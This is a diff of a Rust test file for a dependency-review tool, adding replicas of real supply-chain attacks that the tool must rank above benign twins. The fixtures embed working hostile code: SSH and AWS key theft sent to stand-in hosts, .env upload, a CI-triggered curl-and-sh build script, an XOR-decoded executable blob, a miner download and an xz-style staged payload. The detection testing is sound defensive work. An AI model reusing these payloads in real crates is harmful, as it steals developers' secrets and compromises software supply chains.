@@ -7,6 +7,8 @@
 
 #[path = "support/archives.rs"]
 mod archives;
+#[path = "support/surface_doc.rs"]
+mod surface_doc;
 #[path = "support/registry_double.rs"]
 mod registry_double;
 #[path = "support/schema.rs"]
@@ -303,6 +305,10 @@ fn incidents() -> World {
     w
 }
 
+fn rank_of(order: &[String], name: &str) -> usize {
+    order.iter().position(|n| n == name).unwrap_or_else(|| panic!("{name} not in {order:?}"))
+}
+
 fn pkg<'a>(doc: &'a Value, name: &str) -> &'a Value {
     doc["packages"].as_array().unwrap().iter().find(|p| p["name"] == name).unwrap_or_else(|| panic!("{name} not in {doc:#}"))
 }
@@ -397,14 +403,19 @@ fn the_review_of_a_lockfile_change() {
     let all: u64 = doc["packages"].as_array().unwrap().iter().map(|p| p["audit_lines"].as_u64().unwrap_or(0)).sum();
     assert_eq!(doc["totals"]["audit_lines"], all - not_built, "unbuilt packages are not in the audit cost");
 
-    // Risk order: capability gains first, unbuilt last.
+    // Risk order: by the score of each group (a package a change adds sits under the one that
+    // brought it), unbuilt last.
     let order = names(&doc);
-    assert_eq!(&order[order.len() - 2..], ["winapi-lite", "wincon"]);
-    let tiers: Vec<&str> = doc["packages"].as_array().unwrap().iter().map(|p| p["tier"].as_str().unwrap()).collect();
-    let mut sorted = tiers.clone();
-    let rank = |t: &str| ["integrity", "capabilities", "flags", "direct", "routine", "not-built"].iter().position(|x| *x == t).unwrap();
-    sorted.sort_by_key(|t| rank(t));
-    assert_eq!(tiers, sorted);
+    assert_eq!(&order[order.len() - 2..], ["wincon", "winapi-lite"], "winapi-lite comes under wincon, which brought it");
+    let built: Vec<&Value> = doc["packages"].as_array().unwrap().iter().filter(|p| p["built"] == true).collect();
+    let groups: Vec<u64> = built.iter().map(|p| p["risk"]["group_score"].as_u64().unwrap()).collect();
+    assert!(groups.windows(2).all(|w| w[0] >= w[1]), "{groups:?}");
+    // Reading files under $HOME and connecting out outranks a large refactor, and evil-utils
+    // comes right under helper, which brought it.
+    assert!(rank_of(&order, "logger") < rank_of(&order, "bigparse"));
+    assert_eq!(rank_of(&order, "evil-utils"), rank_of(&order, "helper") + 1, "{order:?}");
+    assert_eq!(pkg(&doc, "evil-utils")["brought_by"], serde_json::json!(["helper"]));
+    assert!(doc["top_risk"].as_str().unwrap().starts_with("Top risk: "), "{}", doc["top_risk"]);
 
     // Coverage and verification are stated.
     assert_eq!(doc["coverage"]["in_scope"], 8);
@@ -576,12 +587,17 @@ fn two_lockfiles_without_manifests_say_the_graph_is_unknown() {
     let r = Run(w.cmd().current_dir(dir.path()).args(["deps-diff", "--old", "old.lock", "--new", "new.lock", "--format", "json", "--target", LINUX]).output().unwrap());
     let doc = r.json();
     assert_eq!(doc["graph"]["known"], false);
-    assert!(doc["graph"]["unknown"][0]["reason"].as_str().unwrap().contains("graph is unknown"));
+    assert!(doc["graph"]["unknown"][0]["reason"].as_str().unwrap().contains("what each target builds is unknown"));
     let wincon = pkg(&doc, "wincon");
     assert_eq!(wincon["built"], Value::Null);
+    // Where each package sits comes from the lockfiles' own dependency lists.
+    assert_eq!(pkg(&doc, "logger")["direct"], serde_json::json!(["app"]));
+    assert_eq!(pkg(&doc, "evil-utils")["via"], serde_json::json!(["app", "helper", "evil-utils"]));
+    assert_eq!(pkg(&doc, "evil-utils")["brought_by"], serde_json::json!(["helper"]));
+    assert_eq!(doc["coverage"]["analysed"], doc["coverage"]["in_scope"], "{:#}", doc["coverage"]);
     let all: u64 = doc["packages"].as_array().unwrap().iter().map(|p| p["audit_lines"].as_u64().unwrap_or(0)).sum();
     assert_eq!(doc["totals"]["audit_lines"], all, "everything counts when the graph is unknown");
-    // Capabilities still come from each package with its default features.
+    // Capabilities come from each changed package, with the features its lockfile entry allows.
     assert_eq!(added(pkg(&doc, "logger")), ["net.connect", "fs.read", "env.read"]);
     assert!(doc["programs"].as_array().unwrap().is_empty());
     let human = Run(w.cmd().current_dir(dir.path()).args(["deps-diff", "--old", "old.lock", "--new", "new.lock", "--target", LINUX]).output().unwrap()).expect(0);
@@ -841,7 +857,7 @@ fn every_flag_has_its_fixture() {
 fn surface_analyzes_a_git_dependency_at_its_commit() {
     let g = git_dependency();
     let out = g.w.run(&["surface", "--format", "json", "--target", LINUX]);
-    let doc: Value = serde_json::from_str(&out.expect(0)).unwrap();
+    let doc: Value = surface_doc::inline(serde_json::from_str(&out.expect(0)).unwrap());
     let app = doc["programs"].as_array().unwrap().iter().find(|p| p["name"] == "app").unwrap();
     let dep = app["crates"].as_array().unwrap().iter().find(|c| c["name"] == "gitdep").unwrap_or_else(|| panic!("{app:#}"));
     let caps: Vec<&str> = dep["capabilities"].as_array().unwrap().iter().map(|c| c.as_str().unwrap()).collect();
@@ -849,7 +865,7 @@ fn surface_analyzes_a_git_dependency_at_its_commit() {
     assert_eq!(dep["findings"][0]["file"], "src/lib.rs");
     // Offline, from the cache it filled.
     let again = g.w.run(&["surface", "--format", "json", "--target", LINUX, "--offline"]);
-    let again: Value = serde_json::from_str(&again.expect(0)).unwrap();
+    let again: Value = surface_doc::inline(serde_json::from_str(&again.expect(0)).unwrap());
     assert_eq!(again, doc);
 }
 
@@ -905,4 +921,499 @@ fn offline_without_the_graph_capabilities_are_unknown() {
     // Online, the rest of the graph is fetched and the gain is seen.
     let doc = w.review(&["--format", "json"]).json();
     assert_eq!(added(pkg(&doc, "alpha")), ["net.connect"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Replicas of real supply-chain attacks, each beside a benign change of the same shape that must
+// not rank above it. The review is read as a reviewer would: the rank of the malicious package,
+// what the headline names, and the markdown's size.
+
+/// One replica: the crates at base and head, the app's direct dependencies at each, the
+/// malicious package and its benign twin.
+struct Replica {
+    base: Vec<Krate>,
+    head: Vec<Krate>,
+    direct_base: Vec<&'static str>,
+    direct_head: Vec<&'static str>,
+    malicious: &'static str,
+    benign: &'static str,
+}
+
+fn app_manifest(direct: &[&str]) -> String {
+    let deps: String = direct.iter().map(|d| format!("{d} = \"*\"\n")).collect();
+    manifest("app", "0.1.0", &format!("[dependencies]\n{deps}"))
+}
+
+/// The replica's world: base and head commits.
+fn replica_world(r: &Replica) -> World {
+    let w = World::new();
+    w.serve(&r.base);
+    w.serve(&r.head.iter().filter(|k| !r.base.iter().any(|b| b.name == k.name && b.version == k.version)).cloned().collect::<Vec<_>>());
+    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n");
+    w.write("app/src/main.rs", "fn main() {}\n");
+    w.write("app/Cargo.toml", &app_manifest(&r.direct_base));
+    w.write("Cargo.lock", &lockfile(&r.direct_base, &r.base, ""));
+    w.commit("base");
+    w.write("app/Cargo.toml", &app_manifest(&r.direct_head));
+    w.write("Cargo.lock", &lockfile(&r.direct_head, &r.head, ""));
+    w.commit("head");
+    w
+}
+
+/// The rank (1-based) of `name` in the review order.
+fn rank(doc: &Value, name: &str) -> usize {
+    names(doc).iter().position(|n| n == name).unwrap_or_else(|| panic!("{name} not in {:?}", names(doc))) + 1
+}
+
+fn score(doc: &Value, name: &str) -> u64 {
+    pkg(doc, name)["risk"]["score"].as_u64().unwrap()
+}
+
+/// Review a replica: the malicious package heads the review (or heads it right under the
+/// package that brought it), scores above its twin, and the headline names it; the markdown
+/// holds its flags within the default budget. Prints the figures.
+fn review_replica(label: &str, r: &Replica, extra: &[&str]) -> (Value, String) {
+    let w = replica_world(r);
+    let mut args = vec!["--format", "json"];
+    args.extend_from_slice(extra);
+    let doc = w.review(&args).json();
+    let mut margs = vec!["--format", "markdown"];
+    margs.extend_from_slice(extra);
+    let md = w.review(&margs).expect(0);
+    let m = pkg(&doc, r.malicious);
+    let group_rank = match m["risk"]["group"].as_str() {
+        Some(g) => rank(&doc, g),
+        None => rank(&doc, r.malicious),
+    };
+    eprintln!(
+        "replica {label}: {} ranks {} of {} (group rank {group_rank}), score {} vs benign {} {}; markdown {} characters",
+        r.malicious,
+        rank(&doc, r.malicious),
+        names(&doc).len(),
+        score(&doc, r.malicious),
+        r.benign,
+        score(&doc, r.benign),
+        md.chars().count()
+    );
+    assert_eq!(group_rank, 1, "{label}: {:?}\n{md}", names(&doc));
+    assert!(score(&doc, r.malicious) > score(&doc, r.benign), "{label}: {:#}", doc["packages"]);
+    assert!(rank(&doc, r.malicious) < rank(&doc, r.benign), "{label}: {:?}", names(&doc));
+    let top = doc["top_risk"].as_str().unwrap_or_default();
+    assert!(top.starts_with(&format!("Top risk: {} ", r.malicious)), "{label}: {top}");
+    let top_line = md.lines().find(|l| l.starts_with("🔺 Top risk")).unwrap_or_default();
+    assert!(top_line.replace('\\', "").starts_with(&format!("🔺 Top risk: {} ", r.malicious)), "{label}:\n{md}");
+    assert!(md.chars().count() <= 20_000, "{label}: {} characters", md.chars().count());
+    (doc, md)
+}
+
+fn reasons(doc: &Value, name: &str) -> Vec<String> {
+    pkg(doc, name)["risk"]["reasons"].as_array().unwrap().iter().map(|r| r["code"].as_str().unwrap().to_string()).collect()
+}
+
+const COLORLOG_OLD: &str = "pub fn enabled() -> bool {\n    true\n}\n";
+const COLORLOG_NEW: &str = "pub fn enabled() -> bool {\n    std::env::var(\"NO_COLOR\").is_err()\n}\n";
+
+/// A typosquatted logger (`faster_log`, after `fast_log`) that a patch release of `logkit`
+/// starts depending on: it reads SSH and cloud keys and posts them over HTTP. Twin: a colour
+/// crate that starts reading `NO_COLOR`.
+fn replica_logger() -> Replica {
+    let logkit = |v: &'static str, dep: bool| {
+        let (extra, deps): (&str, &[&'static str]) = if dep { ("[dependencies]\nfaster_log = \"0.1\"\n", &["faster_log"]) } else { ("", &[]) };
+        krate("logkit", v, extra, &[("src/lib.rs", "pub fn info(m: &str) {\n    eprintln!(\"{m}\");\n}\n")], deps)
+    };
+    let squat = krate(
+        "faster_log",
+        "0.1.0",
+        "",
+        &[("src/lib.rs", "use std::io::Write;\n\npub fn init() {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    let mut body = Vec::new();\n    for f in [\".ssh/id_rsa\", \".aws/credentials\"] {\n        if let Ok(b) = std::fs::read(format!(\"{home}/{f}\")) {\n            body.extend(b);\n        }\n    }\n    if let Ok(mut s) = std::net::TcpStream::connect(\"logs-collector.example:80\") {\n        let _ = write!(s, \"POST /v1/ingest HTTP/1.1\\r\\nContent-Length: {}\\r\\n\\r\\n\", body.len());\n        let _ = s.write_all(&body);\n    }\n}\n")],
+        &[],
+    );
+    let colorlog = |v: &'static str, src: &str| krate("colorlog", v, "", &[("src/lib.rs", src)], &[]);
+    Replica {
+        base: vec![logkit("1.0.0", false), colorlog("2.1.0", COLORLOG_OLD)],
+        head: vec![logkit("1.0.1", true), squat, colorlog("2.1.1", COLORLOG_NEW)],
+        direct_base: vec!["colorlog", "logkit"],
+        direct_head: vec!["colorlog", "logkit"],
+        malicious: "faster_log",
+        benign: "colorlog",
+    }
+}
+
+#[test]
+fn replica_a_typosquatted_logger_exfiltrating_files() {
+    let r = replica_logger();
+    let (doc, md) = review_replica("typosquatted logger", &r, &[]);
+    let codes = reasons(&doc, "faster_log");
+    for c in ["name-squat", "read-and-send", "secret-access"] {
+        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
+    }
+    assert_eq!(pkg(&doc, "faster_log")["squat"]["resembles"], "fast_log");
+    assert_eq!(pkg(&doc, "faster_log")["brought_by"], serde_json::json!(["logkit"]));
+    assert_eq!(pkg(&doc, "logkit")["brings"], serde_json::json!(["faster_log"]));
+    // The package that brought it comes first, its new dependency right under it.
+    assert_eq!(&names(&doc)[..2], ["logkit", "faster_log"]);
+    let row = md.lines().find(|l| l.starts_with("| ") && l.contains("faster\\_log")).unwrap_or_else(|| panic!("{md}"));
+    assert!(row.contains("↳ brought by logkit"), "{row}");
+    assert!(md.contains("`name-squat`"), "{md}");
+    // A reviewer reads no diff of a new crate: its largest files and a link instead.
+    let md_diff = replica_world(&r).review(&["--format", "markdown", "--diff"]).expect(0);
+    assert!(!md_diff.contains("+pub fn init()"), "{md_diff}");
+    assert!(md_diff.contains("https://docs.rs/crate/faster_log/0.1.0/source/"), "{md_diff}");
+}
+
+/// A time client whose minor release starts reading `.env` and uploading it (and that an
+/// advisory names). Twin: a formatter that starts reading `TZ`.
+fn replica_time_client() -> Replica {
+    const OLD: &str = "use std::time::{SystemTime, UNIX_EPOCH};\n\npub fn now() -> u64 {\n    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)\n}\n";
+    const NEW: &str = "use std::io::Write;\nuse std::time::{SystemTime, UNIX_EPOCH};\n\npub fn now() -> u64 {\n    let t = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);\n    if t > 1_767_225_600 {\n        if let Ok(env) = std::fs::read_to_string(\".env\") {\n            if let Ok(mut s) = std::net::TcpStream::connect(\"time-sync.example:123\") {\n                let _ = s.write_all(env.as_bytes());\n            }\n        }\n    }\n    t\n}\n";
+    let fmt_old = "pub fn zone() -> &'static str {\n    \"UTC\"\n}\n";
+    let fmt_new = "pub fn zone() -> String {\n    std::env::var(\"TZ\").unwrap_or_else(|_| \"UTC\".into())\n}\n";
+    Replica {
+        base: vec![krate("timeclient", "2.3.0", "", &[("src/lib.rs", OLD)], &[]), krate("clockfmt", "1.0.0", "", &[("src/lib.rs", fmt_old)], &[])],
+        head: vec![krate("timeclient", "2.4.0", "", &[("src/lib.rs", NEW)], &[]), krate("clockfmt", "1.0.1", "", &[("src/lib.rs", fmt_new)], &[])],
+        direct_base: vec!["clockfmt", "timeclient"],
+        direct_head: vec!["clockfmt", "timeclient"],
+        malicious: "timeclient",
+        benign: "clockfmt",
+    }
+}
+
+#[test]
+fn replica_b_a_time_client_that_starts_uploading_dot_env() {
+    let db = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/advisory-db");
+    let (doc, md) = review_replica("time client", &replica_time_client(), &["--advisory-db", db]);
+    let codes = reasons(&doc, "timeclient");
+    for c in ["secret-access", "read-and-send", "trigger-condition", "advisory"] {
+        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
+    }
+    assert_eq!(pkg(&doc, "timeclient")["advisories"]["affecting"][0]["id"], "RUSTSEC-2099-0002");
+    assert_eq!(pkg(&doc, "timeclient")["advisories"]["introduced"], serde_json::json!(["RUSTSEC-2099-0002"]));
+    assert!(md.contains("RUSTSEC-2099-0002"), "{md}");
+    // Without the database, no advisory and no word of one beyond how to ask.
+    let w = replica_world(&replica_time_client());
+    let plain = w.review(&["--format", "json"]).json();
+    assert_eq!(plain["advisory_db"], Value::Null);
+    assert!(pkg(&plain, "timeclient")["advisories"]["affecting"].as_array().unwrap().is_empty());
+    w.review(&["--advisory-db", db, "--fail-on", "advisory"]).expect(1);
+    w.review(&["--fail-on", "advisory"]).expect(0);
+}
+
+/// A typosquat (`rustdecimal`, after `rust_decimal`) whose build script checks `GITLAB_CI`,
+/// then downloads and runs a payload. Twin: a new crate whose build script writes its
+/// generated tables under `OUT_DIR`.
+fn replica_gitlab_ci() -> Replica {
+    const BUILD: &str = "use std::process::Command;\n\nfn main() {\n    if std::env::var(\"GITLAB_CI\").is_ok() {\n        let _ = Command::new(\"curl\").args([\"-sSfL\", \"https://update.example/payload\", \"-o\", \"/tmp/.cache-upd\"]).status();\n        let _ = Command::new(\"sh\").arg(\"/tmp/.cache-upd\").status();\n    }\n}\n";
+    const TWIN_BUILD: &str = "fn main() {\n    let out_dir = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out_dir}/tables.rs\"), \"pub const N: u32 = 10;\\n\").unwrap();\n}\n";
+    let lib = "pub struct Decimal(pub i128);\n";
+    Replica {
+        base: vec![],
+        head: vec![
+            krate("rustdecimal", "1.23.1", "build = \"build.rs\"\n", &[("src/lib.rs", lib), ("build.rs", BUILD)], &[]),
+            krate("decimal-tables", "0.3.0", "build = \"build.rs\"\n", &[("src/lib.rs", "include!(concat!(env!(\"OUT_DIR\"), \"/tables.rs\"));\n"), ("build.rs", TWIN_BUILD)], &[]),
+        ],
+        direct_base: vec![],
+        direct_head: vec!["decimal-tables", "rustdecimal"],
+        malicious: "rustdecimal",
+        benign: "decimal-tables",
+    }
+}
+
+#[test]
+fn replica_c_a_typosquat_whose_build_script_waits_for_ci() {
+    let (doc, _) = review_replica("GITLAB_CI build script", &replica_gitlab_ci(), &[]);
+    let codes = reasons(&doc, "rustdecimal");
+    for c in ["name-squat", "trigger-condition", "build-spawn"] {
+        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
+    }
+    assert_eq!(pkg(&doc, "rustdecimal")["squat"]["how"], "separator");
+    // The twin's build script writes under OUT_DIR only: that is what build scripts are for.
+    let twin = pkg(&doc, "decimal-tables");
+    let text: Vec<&str> = twin["risk"]["reasons"].as_array().unwrap().iter().map(|r| r["text"].as_str().unwrap()).collect();
+    assert!(text.iter().any(|t| t.contains("under OUT_DIR")), "{text:?}");
+    replica_world(&replica_gitlab_ci()).review(&["--fail-on", "name-squat"]).expect(1);
+}
+
+/// A patch release that adds a new dependency (`tokio-utill`, after `tokio-util`) carrying an
+/// encrypted blob it decrypts, writes out and runs. Twin: a patch release that adds a
+/// dependency with a lookup table.
+fn replica_blob() -> Replica {
+    let blob = "U2FsdGVkX1+vupppZksvRf5pq5g5XjFRlipRkwB0K1Y96Qsv2Lm+31cmzaAILwytX/z66ZVWEQM/ccf1g+9m5Ubu1+sit+A9cenD".repeat(3);
+    let evil = format!("const BLOB: &str = \"{blob}\";\nconst KEY: u8 = 0x5a;\n\npub fn init() {{\n    let data: Vec<u8> = BLOB.bytes().map(|b| b ^ KEY).collect();\n    let path = std::env::temp_dir().join(\".tu-cache\");\n    if std::fs::write(&path, &data).is_ok() {{\n        let _ = std::process::Command::new(&path).spawn();\n    }}\n}}\n");
+    let table: String = (0..64).map(|i| format!("    {},\n", i * 7 % 256)).collect();
+    let tables = format!("pub static TABLE: [u8; 64] = [\n{table}];\n");
+    let netutil = |v: &'static str, dep: bool| {
+        let (extra, deps): (&str, &[&'static str]) = if dep { ("[dependencies]\ntokio-utill = \"0.7\"\n", &["tokio-utill"]) } else { ("", &[]) };
+        krate("netutil", v, extra, &[("src/lib.rs", "pub fn mtu() -> usize {\n    1500\n}\n")], deps)
+    };
+    let imgcodec = |v: &'static str, dep: bool| {
+        let (extra, deps): (&str, &[&'static str]) = if dep { ("[dependencies]\npng-tables = \"0.1\"\n", &["png-tables"]) } else { ("", &[]) };
+        krate("imgcodec", v, extra, &[("src/lib.rs", "pub fn decode(b: &[u8]) -> usize {\n    b.len()\n}\n")], deps)
+    };
+    let evil_k = Krate { name: "tokio-utill", version: "0.7.1", files: vec![("Cargo.toml".into(), manifest("tokio-utill", "0.7.1", "")), ("src/lib.rs".into(), evil)], deps: vec![] };
+    let tables_k = Krate { name: "png-tables", version: "0.1.0", files: vec![("Cargo.toml".into(), manifest("png-tables", "0.1.0", "")), ("src/lib.rs".into(), tables)], deps: vec![] };
+    Replica {
+        base: vec![netutil("1.2.3", false), imgcodec("0.9.0", false)],
+        head: vec![netutil("1.2.4", true), evil_k, imgcodec("0.9.1", true), tables_k],
+        direct_base: vec!["imgcodec", "netutil"],
+        direct_head: vec!["imgcodec", "netutil"],
+        malicious: "tokio-utill",
+        benign: "png-tables",
+    }
+}
+
+#[test]
+fn replica_d_a_patch_release_adding_a_dependency_with_an_encrypted_blob() {
+    let (doc, _) = review_replica("encrypted blob", &replica_blob(), &[]);
+    let codes = reasons(&doc, "tokio-utill");
+    for c in ["name-squat", "suspicious-lines", "capability"] {
+        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
+    }
+    assert!(reasons(&doc, "netutil").contains(&"patch-adds-dependencies".to_string()), "{:?}", reasons(&doc, "netutil"));
+    let flag = pkg(&doc, "netutil")["flags"].as_array().unwrap().iter().find(|f| f["code"] == "new-dependency").unwrap().clone();
+    assert_eq!(flag["message"], "brings 1 dependency new to the build: tokio-utill");
+    // The suspicious line is shown.
+    let sl = pkg(&doc, "tokio-utill")["flags"].as_array().unwrap().iter().find(|f| f["code"] == "suspicious-lines").unwrap().clone();
+    assert!(sl["evidence"][0].as_str().unwrap().contains("const BLOB: &str = \"U2FsdGVkX1"), "{sl:#}");
+}
+
+/// A compromised patch release that downloads a miner and starts it. Twin: a patch release
+/// that starts opening the user's editor.
+fn replica_miner() -> Replica {
+    const OLD: &str = "pub fn digest(b: &[u8]) -> u64 {\n    b.iter().fold(0u64, |h, x| h.wrapping_mul(31).wrapping_add(*x as u64))\n}\n";
+    const NEW: &str = "use std::io::{Read, Write};\n\npub fn digest(b: &[u8]) -> u64 {\n    std::thread::spawn(warm_up);\n    b.iter().fold(0u64, |h, x| h.wrapping_mul(31).wrapping_add(*x as u64))\n}\n\nfn warm_up() {\n    let Ok(mut s) = std::net::TcpStream::connect(\"cdn.example:80\") else { return };\n    let _ = s.write_all(b\"GET /xmrig HTTP/1.0\\r\\n\\r\\n\");\n    let mut bin = Vec::new();\n    let _ = s.read_to_end(&mut bin);\n    let path = \"/tmp/.kworker\";\n    if std::fs::write(path, &bin).is_ok() {\n        let _ = std::process::Command::new(path).args([\"-o\", \"pool.example:3333\", \"--background\"]).spawn();\n    }\n}\n";
+    const EDIT_OLD: &str = "pub fn edit(path: &str) -> bool {\n    !path.is_empty()\n}\n";
+    const EDIT_NEW: &str = "pub fn edit(path: &str) -> bool {\n    let editor = std::env::var(\"EDITOR\").unwrap_or_else(|_| \"vi\".into());\n    std::process::Command::new(editor).arg(path).status().is_ok()\n}\n";
+    Replica {
+        base: vec![krate("hashutil", "3.1.0", "", &[("src/lib.rs", OLD)], &[]), krate("editlaunch", "0.4.0", "", &[("src/lib.rs", EDIT_OLD)], &[])],
+        head: vec![krate("hashutil", "3.1.1", "", &[("src/lib.rs", NEW)], &[]), krate("editlaunch", "0.4.1", "", &[("src/lib.rs", EDIT_NEW)], &[])],
+        direct_base: vec!["editlaunch", "hashutil"],
+        direct_head: vec!["editlaunch", "hashutil"],
+        malicious: "hashutil",
+        benign: "editlaunch",
+    }
+}
+
+#[test]
+fn replica_e_a_compromised_release_spawning_a_miner() {
+    let (doc, _) = review_replica("miner", &replica_miner(), &[]);
+    assert!(reasons(&doc, "hashutil").contains(&"download-and-run".to_string()), "{:?}", reasons(&doc, "hashutil"));
+}
+
+/// Binary test files carrying a payload that the build script reads (the xz shape). Twin: a
+/// release adding binary test images no code reads.
+fn replica_binary_tests() -> Replica {
+    const BUILD_OLD: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
+    const BUILD_NEW: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let blob = include_bytes!(\"tests/files/bad-3-corrupt_lzma2.xz\");\n    let stage: Vec<u8> = blob.iter().rev().map(|b| b.wrapping_sub(0x2d)).collect();\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/../../../liblzma_la-crc64-fast.o\"), stage).unwrap();\n}\n";
+    let payload = "\u{fd}7zXZ\0\0\u{4}\u{e6}\u{d6}\u{b4}F\u{2}\0!\u{1}\u{16}\0\0\0t/\u{e5}\u{a3}\u{1}\0\u{1f}payload";
+    let png = "\u{89}PNG\r\n\u{1a}\n\0\0\0\rIHDR\0\0\0\u{10}";
+    let lib = "pub fn crc64(b: &[u8]) -> u64 {\n    b.len() as u64\n}\n";
+    let img = "pub fn width(b: &[u8]) -> u32 {\n    b.len() as u32\n}\n";
+    Replica {
+        base: vec![
+            krate("xzcompat", "5.6.0", "build = \"build.rs\"\n", &[("src/lib.rs", lib), ("build.rs", BUILD_OLD)], &[]),
+            krate("imgdecode", "2.0.0", "", &[("src/lib.rs", img)], &[]),
+        ],
+        head: vec![
+            krate("xzcompat", "5.6.1", "build = \"build.rs\"\n", &[("src/lib.rs", lib), ("build.rs", BUILD_NEW), ("tests/files/bad-3-corrupt_lzma2.xz", payload)], &[]),
+            krate("imgdecode", "2.0.1", "", &[("src/lib.rs", img), ("tests/images/tiny.png", png)], &[]),
+        ],
+        direct_base: vec!["imgdecode", "xzcompat"],
+        direct_head: vec!["imgdecode", "xzcompat"],
+        malicious: "xzcompat",
+        benign: "imgdecode",
+    }
+}
+
+#[test]
+fn replica_f_binary_test_files_carrying_a_payload() {
+    let (doc, _) = review_replica("binary test files", &replica_binary_tests(), &[]);
+    let codes = reasons(&doc, "xzcompat");
+    assert!(codes.contains(&"binary-read".to_string()), "{codes:?}");
+    assert!(!reasons(&doc, "imgdecode").contains(&"binary-read".to_string()));
+}
+
+/// A new proc macro (`serde_derives`, after `serde_derive`) whose output makes network calls.
+/// Twin: a new proc macro that derives getters.
+fn replica_proc_macro() -> Replica {
+    const EVIL: &str = "extern crate proc_macro;\nuse proc_macro::TokenStream;\n\n#[proc_macro_derive(Serialize)]\npub fn derive(_input: TokenStream) -> TokenStream {\n    if let Ok(mut s) = std::net::TcpStream::connect(\"telemetry.example:443\") {\n        use std::io::Write;\n        let _ = s.write_all(std::env::var(\"CARGO_PKG_NAME\").unwrap_or_default().as_bytes());\n    }\n    \"fn __serde_init() { let _ = std::net::TcpStream::connect(\\\"telemetry.example:443\\\"); }\".parse().unwrap()\n}\n";
+    const TWIN: &str = "extern crate proc_macro;\nuse proc_macro::TokenStream;\n\n#[proc_macro_derive(Getters)]\npub fn derive(_input: TokenStream) -> TokenStream {\n    TokenStream::new()\n}\n";
+    let pm = "[lib]\nproc-macro = true\n";
+    Replica {
+        base: vec![],
+        head: vec![krate("serde_derives", "1.0.1", pm, &[("src/lib.rs", EVIL)], &[]), krate("getset-derive", "0.2.0", pm, &[("src/lib.rs", TWIN)], &[])],
+        direct_base: vec![],
+        direct_head: vec!["getset-derive", "serde_derives"],
+        malicious: "serde_derives",
+        benign: "getset-derive",
+    }
+}
+
+#[test]
+fn replica_g_a_proc_macro_emitting_network_calls() {
+    let (doc, _) = review_replica("proc macro", &replica_proc_macro(), &[]);
+    let codes = reasons(&doc, "serde_derives");
+    assert!(codes.contains(&"name-squat".to_string()), "{codes:?}");
+    assert_eq!(pkg(&doc, "serde_derives")["squat"]["how"], "plural");
+}
+
+/// The same packages with benign contents do not rank above the malicious ones: every
+/// replica's twins together with the malicious packages.
+#[test]
+fn a_benign_change_with_the_same_packages_does_not_outrank_the_attack() {
+    let r = replica_logger();
+    let benign = Replica {
+        head: r
+            .head
+            .iter()
+            .map(|k| if k.name == "faster_log" { krate("faster_log", "0.1.0", "", &[("src/lib.rs", "pub fn init() {}\n")], &[]) } else { k.clone() })
+            .collect(),
+        ..replica_logger()
+    };
+    let w = replica_world(&benign);
+    let doc = w.review(&["--format", "json"]).json();
+    // Its name still imitates a popular crate, so it is still read first: but for less.
+    let bad = review_replica("typosquatted logger (again)", &r, &[]).0;
+    assert!(score(&doc, "faster_log") < score(&bad, "faster_log"), "{} vs {}", score(&doc, "faster_log"), score(&bad, "faster_log"));
+    assert!(!reasons(&doc, "faster_log").contains(&"read-and-send".to_string()));
+}
+
+/// Two lockfiles whose packages were built without a default feature: the lockfile does not
+/// lock the optional dependency that feature turns on. Each changed package is analysed with
+/// the features its entry allows, and nothing fails for what is not locked.
+#[test]
+fn two_lockfiles_take_features_from_what_the_lockfile_locks() {
+    let w = World::new();
+    // `diff` (on by default) turns on difflib, which the lockfile does not lock: it was off, and
+    // so was `default`. `fancy` asks helper for `extra`, which turns on helper's zzz, which the
+    // lockfile does not lock either: what the lockfile leaves out is not built.
+    let manifest_extra = "\n[dependencies]\nhelper = \"1\"\ndifflib = { version = \"0.4\", optional = true }\n\n[features]\ndefault = [\"diff\"]\ndiff = [\"dep:difflib\"]\nfancy = [\"helper/extra\"]\n";
+    let helper = krate("helper", "1.0.0", "\n[dependencies]\nzzz = { version = \"1\", optional = true }\n\n[features]\nextra = [\"dep:zzz\"]\n", &[("src/lib.rs", "pub fn h() {}\n")], &[]);
+    let old = krate("predicates", "3.1.3", manifest_extra, &[("src/lib.rs", "#[cfg(feature = \"diff\")]\npub fn d() -> usize { difflib::n() }\npub fn p() {}\n")], &["helper"]);
+    // 3.1.4 spawns `diff` behind the `diff` feature: off in this build, so not a gain.
+    let new = krate("predicates", "3.1.4", manifest_extra, &[("src/lib.rs", "#[cfg(feature = \"diff\")]\npub fn d() -> usize { difflib::n() }\n#[cfg(feature = \"diff\")]\npub fn show() {\n    let _ = std::process::Command::new(\"diff\").status();\n}\npub fn p() {\n    let _ = std::fs::read(\"/etc/hosts\");\n}\n")], &["helper"]);
+    w.serve(&[old.clone(), new.clone(), helper.clone()]);
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("old.lock"), lockfile(&["predicates"], &[old, helper.clone()], "")).unwrap();
+    std::fs::write(dir.path().join("new.lock"), lockfile(&["predicates"], &[new, helper], "")).unwrap();
+    let run = |extra: &[&str]| {
+        let mut args = vec!["deps-diff", "--old", "old.lock", "--new", "new.lock", "--target", LINUX];
+        args.extend_from_slice(extra);
+        Run(w.cmd().current_dir(dir.path()).args(&args).output().unwrap())
+    };
+    let doc = run(&["--format", "json"]).json();
+    let p = pkg(&doc, "predicates");
+    assert_eq!(p["capabilities"]["status"], "analysed", "{p:#}");
+    assert_eq!(added(p), ["fs.read"]);
+    assert_eq!(doc["coverage"]["analysed"], 1);
+    let human = run(&[]).expect(0);
+    assert!(!human.contains("generate-lockfile") && !human.contains("velaris-probe"), "{human}");
+}
+
+/// `--format sarif`: valid SARIF 2.1.0, the widened grants at their baseline entries and the
+/// gained capabilities at their lockfile entries, with fingerprints that stay put.
+#[test]
+fn sarif_for_code_scanning() {
+    let w = incidents();
+    let out = w.review(&["--format", "sarif"]).expect(0);
+    let doc: Value = serde_json::from_str(&out).unwrap();
